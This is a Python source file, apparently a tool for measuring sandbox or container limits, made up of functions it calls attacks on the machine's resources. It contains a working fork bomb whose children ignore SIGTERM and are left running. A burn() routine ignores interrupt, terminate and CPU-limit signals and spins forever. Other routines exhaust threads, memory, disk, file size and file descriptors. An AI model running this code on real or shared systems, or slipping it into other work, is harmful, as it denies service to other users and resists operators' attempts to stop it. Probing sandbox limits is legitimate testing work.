"""Attacks on the machine's resources. Each returns how much it got."""

from __future__ import annotations

import os
import signal
import threading
import time

MIB = 1 << 20


def fork_bomb() -> int:
    """Return how many processes can be started before the system refuses; they stay."""
    count = 0
    while count < 100_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                time.sleep(3600)
        count += 1
    return count


def threads() -> int:
    count = 0
    while count < 100_000:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            break
        count += 1
    return count


def memory(most_mib: int) -> int:
    """Return how many MiB can be filled."""
    held: list[bytes] = []
    try:
        while len(held) < most_mib:
            held.append(b"x" * MIB)
    except MemoryError:
        pass
    return len(held)


def disk(folder: str, most_mib: int) -> int:
    """Return how many MiB fit into a folder, in files of 4 MiB."""
    paths: list[str] = []
    try:
        while len(paths) * 4 < most_mib:
            path = os.path.join(folder, f"filled-{len(paths)}")
            paths.append(path)
            with open(path, "wb", buffering=0) as file:
                left = 4 * MIB
                while left:
                    left -= file.write(bytes(left))
    except OSError:
        pass
    size = sum(os.path.getsize(path) for path in paths) // MIB
    for path in paths:
        os.unlink(path)
    return size


def names(folder: str) -> int:
    """Return how many empty files may be made in a folder: each takes memory of the kernel's."""
    return os.statvfs(folder).f_files


def one_file(most_mib: int) -> int:
    """Return how large a single file gets, in MiB."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("large", "wb", buffering=0) as file:
        try:
            while file.tell() < most_mib * MIB:
                file.write(bytes(MIB))
        except OSError:
            pass
        size = file.tell() // MIB
    os.unlink("large")
    return size


def open_files() -> int:
    held: list[int] = []
    try:
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    for descriptor in held:
        os.close(descriptor)
    return len(held)


def burn() -> None:
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGXCPU):
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass
